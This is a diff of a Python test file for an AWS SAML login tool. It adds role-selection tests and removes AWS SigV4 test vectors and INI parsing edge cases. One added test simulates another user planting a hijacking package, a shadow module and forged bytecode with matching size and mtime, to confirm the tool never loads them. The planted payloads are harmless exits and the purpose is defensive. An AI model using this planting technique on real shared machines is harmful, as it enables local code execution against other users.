+        return aws_login.match_role(self.ROLES, wanted, self.ALIASES).arn
+
+    def test_every_form_in_any_case(self):
+        for wanted, arn in [
+                (DEV, DEV), (DEV.upper(), DEV), (ADMIN_B.lower(), ADMIN_B),
+                ("team/Dev", DEV), ("TEAM/DEV", DEV), ("dev", DEV), ("Dev ", DEV),
+                ("ReadOnly", READONLY), ("readonly", READONLY),
+                ("%s/admin" % ACCOUNT_A, ADMIN), ("%s/ADMIN" % ACCOUNT_B, ADMIN_B),
+                ("%s/team/dev" % ACCOUNT_A, DEV), ("%s/Dev" % ACCOUNT_A, DEV),
+                ("PROD/Admin", ADMIN), ("staging/admin", ADMIN_B), ("prod/team/Dev", DEV),
+                ("prod/dev", DEV), ("STAGING/readonly", READONLY)]:
+            self.assertEqual(self.match(wanted), arn, wanted)
+
+    def test_ambiguous_names_list_the_matches(self):
+        for wanted in ("Admin", "admin", "ADMIN"):
+            with self.assertRaises(aws_login.RoleError) as caught:
+                self.match(wanted)
+            self.assertEqual(str(caught.exception),
+                             "role %s is ambiguous: it names %s, %s; give ACCOUNT/NAME or the "
+                             "ARN" % (wanted, ADMIN, ADMIN_B))
+            self.assertEqual(caught.exception.exit_code, 6)
+
+    def test_unknown_names_list_the_roles_offered(self):
+        offered = ", ".join(r.arn for r in self.ROLES)
+        for wanted in ("Nope", "/Admin", "team", "999999999999/Admin", "prod/ReadOnly",
+                       "staging/team/Dev", "dev/Admin", "arn:aws:iam::%s:role/Dev" % ACCOUNT_A,
+                       "Admin/prod", "%s/Admin" % ACCOUNT_A[:-1], "eam/Dev"):
+            with self.assertRaises(aws_login.RoleError) as caught:
+                self.match(wanted)
+            self.assertEqual(str(caught.exception), "the IdP does not offer role %s; it "
+                             "offers: %s" % (wanted, offered))
+        # no alias file: an alias is only an alias when the file says so
+        with self.assertRaises(aws_login.RoleError):
+            aws_login.match_role(self.ROLES, "prod/Admin")
+        self.assertEqual(aws_login.match_role(self.ROLES, "%s/Admin" % ACCOUNT_A).arn, ADMIN)
+
+    def test_an_empty_alias_names_nothing(self):
+        aliases = {ACCOUNT_A: "", ACCOUNT_B: " "}
+        for wanted in ("/Admin", " /ReadOnly"):
+            with self.assertRaises(aws_login.RoleError):
+                aws_login.match_role(self.ROLES, wanted, aliases)
+
+    def test_choose_role_prefers_the_exact_arn_and_matches_names(self):
+        self.assertEqual(aws_login.choose_role(self.ROLES, DEV).arn, DEV)
+        self.assertEqual(aws_login.choose_role(self.ROLES, "readonly").arn, READONLY)
+        with self.assertRaisesRegex(aws_login.RoleError, "ambiguous"):
+            aws_login.choose_role(self.ROLES, "Admin")
+
+    def test_role_names_from_the_command_line_are_checked(self):
+        self.assertEqual(aws_login.check_role_name(" team/Dev "), "team/Dev")
+        self.assertEqual(aws_login.check_role_name(DEV), DEV)
+        self.assertEqual(aws_login.check_role_name(DEV.upper()), DEV.upper())
+        with self.assertRaises(aws_login.ConfigError):
+            aws_login.check_role_name("arn:aws:iam::1:role/X")
+        for bad in ("", "  ", "Ad\nmin", "Ad\x1bmin", "a" * 1025):
+            with self.assertRaises(aws_login.UsageError):
+                aws_login.check_role_name(bad)
+        self.assertEqual(aws_login.check_role_name("a" * 1024), "a" * 1024)
+
+    def test_the_menu_marks_the_last_role(self):
+        lines, ordered = aws_login.role_menu(self.ROLES[:3], last=READONLY.lower())
+        self.assertEqual(lines[1:], ["    Account: %s" % ACCOUNT_A, "        [ 0 ]: Admin",
+                                     "        [ 1 ]: team/Dev", "    Account: %s" % ACCOUNT_B,
+                                     "        [ 2 ]: ReadOnly (last chosen)"])
+        self.assertEqual(aws_login.role_menu(self.ROLES[:3])[0],
+                         aws_login.role_menu(self.ROLES[:3], last=ADMIN_B)[0])
+
+
+class RoleChoiceTest(LoginTestCase):
+    """`login --role` and the menu's default, with bob (three roles) on the terminal."""
+
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        self.configure(username="bob", factor="auto", password="bob-pass")
+        self.last_file = os.path.join(self.home, ".aws-login", "role", "default")
+
+    def test_login_role_takes_every_form(self):
+        self.write(os.path.join(self.home, ".aws-login", "alias"),
+                   "[accounts]\n%s = Staging\n" % ACCOUNT_B)
+        for flag, wanted, arn in [("--role", "readonly", READONLY),
+                                  ("--role", "%s/TEAM/dev" % ACCOUNT_A, DEV),
+                                  ("--role", "staging/READONLY", READONLY),
+                                  ("--role", "Admin", ADMIN),
+                                  ("--role-arn", DEV.lower(), DEV),
+                                  ("--role-arn", "dev", DEV)]:
+            run = self.tool(["login", flag, wanted], terminal=False)
+            self.assert_logged_in(run, arn)
+        self.assertNotIn("Selection", run.tty)
+
+    def test_ambiguous_or_unknown_exit_6_in_one_line_and_write_nothing(self):
+        self.idp.users["bob"]["roles"].append(PROVIDER_B + "," + ADMIN_B)
+        run = self.tool(["login", "--role", "admin"])
+        self.assert_nothing_written(run, 6)
+        self.assertIn("role admin is ambiguous: it names %s, %s" % (ADMIN, ADMIN_B), run.stderr)
+        self.assertEqual(self.sts.requests, [])
+        run = self.tool(["login", "--role", "Nope"])
+        self.assert_nothing_written(run, 6)
+        self.assertIn("the IdP does not offer role Nope; it offers: %s, %s, %s, %s"
+                      % (ADMIN, READONLY, DEV, ADMIN_B), run.stderr)
+        asked = len(self.idp.requests)
+        run = self.tool(["login", "--role", "Ad\x1bmin"], terminal=False)
+        self.assert_nothing_written(run, 2)
+        self.assertIn("'Ad\\x1bmin'", run.stderr)
+        self.assertEqual(len(self.idp.requests), asked)
+
+    def test_the_menu_offers_the_role_chosen_last_time(self):
+        run = self.tool(["login"], [("Selection: ", ""), ("Selection: ", "2")])
+        self.assert_logged_in(run, READONLY)
+        self.assertIn("Please enter a number from 0 to 2.", run.tty)     # no default yet
+        self.assertNotIn("last chosen", run.tty)
+        self.assertEqual(self.read(self.last_file), READONLY + "\n")
+        self.assertEqual(os.stat(self.last_file).st_mode & 0o777, 0o600)
+        self.assertEqual(os.stat(os.path.dirname(self.last_file)).st_mode & 0o777, 0o700)
+        run = self.tool(["login"], [("Selection [2]: ", "")])
+        self.assert_logged_in(run, READONLY)
+        self.assertIn("        [ 2 ]: ReadOnly (last chosen)\r\n", run.tty)
+        self.assertEqual(run.tty.count("last chosen"), 1)
+        self.assertNotIn("Please enter", run.tty)
+        run = self.tool(["login"], [("Selection [2]: ", "x"), ("Selection [2]: ", "1")])
         self.assert_logged_in(run, DEV)
-        self.assertIn("not one of auto", run.tty)
+        self.assertIn("Please enter a number from 0 to 2.", run.tty)
+        self.assertEqual(self.read(self.last_file), DEV + "\n")
+        run = self.tool(["login"], [("Selection [1]: ", "")])
+        self.assert_logged_in(run, DEV)
+        # --role is a choice too; another profile has a default of its own
+        self.assert_logged_in(self.tool(["login", "--role", "admin"]), ADMIN)
+        self.assert_logged_in(self.tool(["login"], [("Selection [0]: ", "")]), ADMIN)
+        self.configure("other", username="bob", factor="auto", password="bob-pass")
+        run = self.tool(["--profile", "other", "login"], [("Selection: ", "2")])
+        self.assert_logged_in(run, READONLY, profile="other")
+        self.assertEqual(self.read(self.last_file), ADMIN + "\n")
 
-    def test_success_line_shows_local_time(self):
-        self.configure(username="alice", factor="auto", password=PASSWORD)
-        run = self.tool(["login"], terminal=False, env={"TZ": "JST-9"})
-        self.assert_logged_in(run)
-        expires = aws_login.parse_timestamp(self.credentials()["aws_login_expiration"])
-        local = (expires + datetime.timedelta(hours=9)).strftime("%Y-%m-%d %H:%M JST")
-        self.assertIn("expire at %s." % local, run.stderr)
-
-    def test_help_lists_the_commands(self):
-        run = self.tool(["--help"], terminal=False)
-        self.assertEqual(run.code, 0)
-        for command in ("configure", "login", "logout", "credential-process", "status"):
-            self.assertIn(command, run.stdout)
-
-    def test_ca_bundle_is_added_to_the_system_roots_not_instead(self):
-        # The IdP's certificate is trusted only by the "system" roots (SSL_CERT_FILE),
-        # STS's only by the profile's ca_bundle: both must verify.
-        idp = FakeIdP(cert=UNTRUSTED_CERT_PEM, key=UNTRUSTED_KEY_PEM).start()
-        self.addCleanup(idp.stop)
-        idp.users = self.idp.users
-        del os.environ["AWS_CA_BUNDLE"]
-        empty = os.path.join(self.home, "no-certs")
-        os.mkdir(empty)
-        self.configure(ecp_endpoint_url=idp.url, username="alice", factor="auto",
-                       password=PASSWORD, ca_bundle=self.pems["ca"])
-        run = self.tool(["login"], terminal=False, env={
-            "SSL_CERT_FILE": self.pems["untrusted_cert"], "SSL_CERT_DIR": empty})
-        self.assert_logged_in(run)
-
-
-class IniEdgeTest(unittest.TestCase):
-    def test_indented_header_and_bom_are_sections_as_configparser_reads_them(self):
-        text = "\ufeff[a]\nx = 1\n  [p]\nold = 1\n"
-        new = aws_login.ini_replace_section(text, "p", VALUES)
-        self.assertEqual(new.count("[p]"), 1)
-        self.assertTrue(new.startswith("\ufeff[a]\nx = 1\n[p]\n"))
-        parser = aws_login._parse_ini(new, "t", "\x00")
-        self.assertEqual(parser.get("p", "aws_session_token"), "tok")
-
-    def test_declared_encoding_travels_with_the_response(self):
-        envelope = build_success_envelope("_r", "https://signin.aws.amazon.com/saml",
-                                          [ADMIN + "," + PROVIDER_A], prefix_style="plain")[0]
-        envelope = re.sub(br"^<\?xml[^>]*\?>\s*", b"", envelope)
-        latin = b'<?xml version="1.0" encoding="ISO-8859-1"?>\n' + envelope
-
-        def extracted(body):
-            return aws_login.parse_ecp_answer(aws_login.HttpAnswer(
-                200, {"Content-Type": "text/xml"}, body, "https://idp/ecp"),
-                AWS_ACS_URLS[0]).response_xml
-        self.assertTrue(extracted(latin).startswith(
-            b'<?xml version="1.0" encoding="ISO-8859-1"?><samlp:Response'))
-        self.assertTrue(extracted(envelope).startswith(b"<samlp:Response"))
-
-    def test_only_newline_ends_a_line_as_configparser_reads_it(self):
-        # A value holding U+2028 (or \\x0c, \\x1c, \\x85) is one line for configparser;
-        # cut at it, "[two]" inside [one]'s token looked like a section header.
-        for sep in ("\u2028", "\x0c", "\x1c", "\x85", "\x0b"):
-            text = "[one]\naws_session_token = tok%s[two]\nx = 1\n" % sep
-            new = aws_login.ini_replace_section(text, "two", VALUES)
-            self.assertTrue(new.startswith(text), repr(new))
-            parser = aws_login._parse_ini(new, "t", "\x00")
-            self.assertEqual(parser.get("one", "aws_session_token"), "tok%s[two]" % sep)
-            self.assertEqual(parser.get("one", "x"), "1")
-            self.assertEqual(parser.get("two", "aws_session_token"), "tok")
-            self.assertEqual(aws_login.ini_remove_section(new, "two"), text)
-            self.assertEqual(aws_login.ini_remove_section(text, "two"), text)
-            options = aws_login.ini_set_options(text, "two", {"k": "v"})
-            self.assertTrue(options.startswith(text), repr(options))
-            self.assertEqual(aws_login.ini_set_options(text, "one", {"x": "2"}),
-                             text.replace("x = 1", "x = 2"))
-
-    def test_values_with_line_breaks_or_controls_are_refused(self):
-        for bad in ("a\nb", "a\rb", "a\x0cb", "a\u2028b", "a\u2029b", "a\x85b", "a\x1bb",
-                    "a\x00b", "a\x7fb", "a\tb"):
-            with self.assertRaises(aws_login.CredentialsFileError, msg=repr(bad)):
-                aws_login.render_section("p", [("k", bad)])
-            with self.assertRaises(aws_login.ConfigError, msg=repr(bad)):
-                aws_login.ini_set_options("", "p", {"k": bad})
-        self.assertIn("k = caf\u00e9 \u2014 ok", aws_login.render_section("p", [("k", "caf\u00e9 \u2014 ok")]))
-
-    def test_profile_names_with_line_breaks_or_controls_are_refused(self):
-        for bad in ("a\x0cb", "a\u2028b", "a\x85b", "a\x1cb", "a\x1b[2Jb", "a\tb", "a]b"):
-            with self.assertRaises(aws_login.UsageError, msg=repr(bad)):
-                aws_login.profile_name(bad)
-        self.assertEqual(aws_login.profile_name("caf\u00e9-1"), "caf\u00e9-1")
-
-    def test_the_real_file_refuses_such_a_profile_name(self):
-        home = tempfile.mkdtemp(prefix="aws-login-test-")
-        self.addCleanup(shutil.rmtree, home, True)
-        env = dict((k, v) for k, v in os.environ.items() if k not in CLEARED_ENV)
-        env.update(HOME=home, AWSCLI_LOGIN_ROOT=home, AWS_PROFILE="two\x0cthree")
-        for args in (["logout"], ["--profile", "a\u2028b", "login"]):
-            run = run_tool(args, env=env, terminal=False)
-            self.assertEqual(run.code, 2, run)
-            self.assertEqual(len(run.stderr.strip().splitlines()), 1, run)
-            self.assertIn("invalid profile name", run.stderr)
-            self.assertNotIn("Traceback", run.stderr)
+    def test_a_configured_role_or_a_role_no_longer_offered_sets_no_default(self):
+        self.configure("cfg", username="bob", factor="auto", password="bob-pass", role_arn=DEV)
+        self.assert_logged_in(self.tool(["--profile", "cfg", "login"]), DEV, profile="cfg")
+        self.assertFalse(os.path.exists(os.path.join(self.home, ".aws-login", "role", "cfg")))
+        self.write(self.last_file, ADMIN_B + "\n")
+        run = self.tool(["login"], [("Selection: ", "0")])
+        self.assert_logged_in(run, ADMIN)
+        self.assertNotIn("last chosen", run.tty)
+        self.write(self.last_file, "not an arn\n")
+        self.assert_logged_in(self.tool(["login"], [("Selection: ", "1")]), DEV)
 
 
 # ---------------------------------------------------------------------------
-# SigV4
+# Starting ourselves again: the bootstrap of the refresher and credential_process
 # ---------------------------------------------------------------------------
 
-# The AWS Signature Version 4 test suite (the classic one AWS published),
-# copied byte for byte: request, canonical request, string to sign, Authorization.
-# AWS Signature Version 4 Test Suite
-# Copyright Amazon.com, Inc. or its affiliates. All Rights Reserved.
-# SPDX-License-Identifier: Apache-2.0.  (The license text is in LICENSE.)
-SIGV4_SUITE = {
-    'get-relative': {
-        'req': 'GET /example/.. HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
-        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
-        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nbb579772317eb040ac9ed261061d46c1f17a8133879d6129b6e1c25292927e63',
-        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31',
-    },
-    'get-relative-relative': {
-        'req': 'GET /example1/example2/../.. HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
-        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
-        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nbb579772317eb040ac9ed261061d46c1f17a8133879d6129b6e1c25292927e63',
-        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31',
-    },
-    'get-slash': {
-        'req': 'GET // HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
-        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
-        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nbb579772317eb040ac9ed261061d46c1f17a8133879d6129b6e1c25292927e63',
-        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31',
-    },
-    'get-slash-dot-slash': {
-        'req': 'GET /./ HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
-        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
-        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nbb579772317eb040ac9ed261061d46c1f17a8133879d6129b6e1c25292927e63',
-        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31',
-    },
-    'get-slash-pointless-dot': {
-        'req': 'GET /./example HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
-        'creq': 'GET\n/example\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
-        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n214d50c111a8edc4819da6a636336472c916b5240f51e9a51b5c3305180cf702',
-        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=ef75d96142cf21edca26f06005da7988e4f8dc83a165a80865db7089db637ec5',
-    },
-    'get-slashes': {
-        'req': 'GET //example// HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
-        'creq': 'GET\n/example/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
-        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\ncb96b4ac96d501f7c5c15bc6d67b3035061cfced4af6585ad927f7e6c985c015',
-        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=9a624bd73a37c9a373b5312afbebe7a714a789de108f0bdfe846570885f57e84',
-    },
-    'get-space': {
-        'req': 'GET /example space/ HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
-        'creq': 'GET\n/example%20space/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
-        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n63ee75631ed7234ae61b5f736dfc7754cdccfedbff4b5128a915706ee9390d86',
-        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=652487583200325589f1fba4c7e578f72c47cb61beeca81406b39ddec1366741',
-    },
-    'get-vanilla': {
-        'req': 'GET / HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
-        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
-        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nbb579772317eb040ac9ed261061d46c1f17a8133879d6129b6e1c25292927e63',
-        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31',
-    },
-    'get-vanilla-query': {
-        'req': 'GET / HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
-        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
-        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nbb579772317eb040ac9ed261061d46c1f17a8133879d6129b6e1c25292927e63',
-        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31',
-    },
-    'get-vanilla-with-session-token': {
-        'req': 'GET / HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
-        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\nx-amz-security-token:6e86291e8372ff2a2260956d9b8aae1d763fbf315fa00fa31553b73ebf194267\n\nhost;x-amz-date;x-amz-security-token\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
-        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n067b36aa60031588cea4a4cde1f21215227a047690c72247f1d70b32fbbfad2b',
-        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date;x-amz-security-token, Signature=07ec1639c89043aa0e3e2de82b96708f198cceab042d4a97044c66dd9f74e7f8',
-    },
-    'post-sts-header-after': {
-        'req': 'POST / HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
-        'creq': 'POST\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
-        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n553f88c9e4d10fc9e109e2aeb65f030801b70c2f6468faca261d401ae622fc87',
-        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5da7c1a2acd57cee7505fc6676e4e544621c30862966e37dddb68e92efbe5d6b',
-    },
-    'post-sts-header-before': {
-        'req': 'POST / HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z\nX-Amz-Security-Token:AQoDYXdzEPT//////////wEXAMPLEtc764bNrC9SAPBSM22wDOk4x4HIZ8j4FZTwdQWLWsKWHGBuFqwAeMicRXmxfpSPfIeoIYRqTflfKD8YUuwthAx7mSEI/qkPpKPi/kMcGdQrmGdeehM4IC1NtBmUpp2wUE8phUZampKsburEDy0KPkyQDYwT7WZ0wq5VSXDvp75YU9HFvlRd8Tx6q6fE8YQcHNVXAkiY9q6d+xo0rKwT38xVqr7ZD0u0iPPkUL64lIZbqBAz+scqKmlzm8FDrypNC9Yjc8fPOLn9FX9KSYvKTr4rvx3iSIlTJabIQwj2ICCR/oLxBA==',
-        'creq': 'POST\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\nx-amz-security-token:AQoDYXdzEPT//////////wEXAMPLEtc764bNrC9SAPBSM22wDOk4x4HIZ8j4FZTwdQWLWsKWHGBuFqwAeMicRXmxfpSPfIeoIYRqTflfKD8YUuwthAx7mSEI/qkPpKPi/kMcGdQrmGdeehM4IC1NtBmUpp2wUE8phUZampKsburEDy0KPkyQDYwT7WZ0wq5VSXDvp75YU9HFvlRd8Tx6q6fE8YQcHNVXAkiY9q6d+xo0rKwT38xVqr7ZD0u0iPPkUL64lIZbqBAz+scqKmlzm8FDrypNC9Yjc8fPOLn9FX9KSYvKTr4rvx3iSIlTJabIQwj2ICCR/oLxBA==\n\nhost;x-amz-date;x-amz-security-token\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
-        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nc237e1b440d4c63c32ca95b5b99481081cb7b13c7e40434868e71567c1a882f6',
-        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date;x-amz-security-token, Signature=85d96828115b5dc0cfc3bd16ad9e210dd772bbebba041836c64533a82be05ead',
-    },
-    'post-vanilla': {
-        'req': 'POST / HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
-        'creq': 'POST\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
-        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n553f88c9e4d10fc9e109e2aeb65f030801b70c2f6468faca261d401ae622fc87',
-        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5da7c1a2acd57cee7505fc6676e4e544621c30862966e37dddb68e92efbe5d6b',
-    },
-    'post-vanilla-query': {
-        'req': 'POST /?Param1=value1 HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
-        'creq': 'POST\n/\nParam1=value1\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
-        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n9d659678c1756bb3113e2ce898845a0a79dbbc57b740555917687f1b3340fbbd',
-        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=28038455d6de14eafc1f9222cf5aa6f1a96197d7deb8263271d420d138af7f11',
-    },
-    'post-x-www-form-urlencoded': {
-        'req': 'POST / HTTP/1.1\nContent-Type:application/x-www-form-urlencoded\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z\n\nParam1=value1',
-        'creq': 'POST\n/\n\ncontent-type:application/x-www-form-urlencoded\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\ncontent-type;host;x-amz-date\n9095672bbd1f56dfc5b65f3e153adc8731a4a654192329106275f4c7b24d0b6e',
-        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n42a5e5bb34198acb3e84da4f085bb7927f2bc277ca766e6d19c73c2154021281',
-        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=ff11897932ad3f4e8b18135d722051e5ac45fc38421b1da7b9d196a0fe09473a',
-    },
-    'post-x-www-form-urlencoded-parameters': {
-        'req': 'POST / HTTP/1.1\nContent-Type:application/x-www-form-urlencoded; charset=utf8\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z\n\nParam1=value1',
-        'creq': 'POST\n/\n\ncontent-type:application/x-www-form-urlencoded; charset=utf8\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\ncontent-type;host;x-amz-date\n9095672bbd1f56dfc5b65f3e153adc8731a4a654192329106275f4c7b24d0b6e',
-        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n2e1cf7ed91881a30569e46552437e4156c823447bf1781b921b5d486c568dd1c',
-        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=1a72ec8f64bd914b0e42e42607c7fbce7fb2c7465f63e3092b3b0d39fa77a6fe',
-    },
-}
+class BootstrapTest(HomeTestCase):
+    """The command configure writes (and the refresher's interpreter) loads our
+    file by its path, with bytecode nobody else could have planted."""
+
+    def shared_copy(self):
+        """aws_login.py in a sticky folder everyone can write to, like /tmp."""
+        folder = os.path.join(self.home, "shared")
+        os.mkdir(folder)
+        os.chmod(folder, 0o1777)
+        copy = os.path.join(folder, "aws_login.py")
+        shutil.copy(SCRIPT, copy)
+        return folder, copy
+
+    def plant(self, folder, copy):
+        """What another user could leave there: a package and a module that win
+        an import by name, and bytecode whose header matches our file's."""
+        self.write(os.path.join(folder, "aws_login", "__init__.py"), "import sys; sys.exit(97)\n")
+        self.write(os.path.join(folder, "argparse.py"), "import sys; sys.exit(98)\n")
+        st = os.stat(copy)
+        with open(copy, "rb") as f:
+            real = f.read()
+        evil = b"import sys; sys.exit(99)\n"
+        evil += b"#" * (len(real) - len(evil) - 1) + b"\n"       # the same size...
+        try:
+            with open(copy, "wb") as f:
+                f.write(evil)
+            os.utime(copy, (st.st_atime, st.st_mtime))          # ...and the same mtime
+            import importlib.util
+            import py_compile
+            py_compile.compile(copy, cfile=importlib.util.cache_from_source(copy),
+                               doraise=True)
+        finally:
+            with open(copy, "wb") as f:
+                f.write(real)
+            os.utime(copy, (st.st_atime, st.st_mtime))
+        os.chmod(os.path.join(folder, "__pycache__"), 0o777)
+
+    def configured_command(self, copy):
+        run = run_tool(["configure", "--ecp-endpoint-url", "https://idp.example.edu/ecp",
+                        "--credential-process"], env=dict(os.environ), terminal=False,
+                       argv_prefix=[sys.executable, copy])
+        self.assertEqual(run.code, 0, run)
+        import configparser
+        import shlex
+        parser = configparser.RawConfigParser()
+        parser.read(os.environ["AWS_CONFIG_FILE"])
+        return shlex.split(parser.get("default", "credential_process"))
+
+    def test_planted_bytecode_packages_and_modules_are_never_loaded(self):
+        folder, copy = self.shared_copy()
+        command = self.configured_command(copy)
+        self.plant(folder, copy)
+        # Proof that the planted files would win a plain import by name:
+        plain = subprocess.run([sys.executable, "-c", "import aws_login"], cwd=folder,
+                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
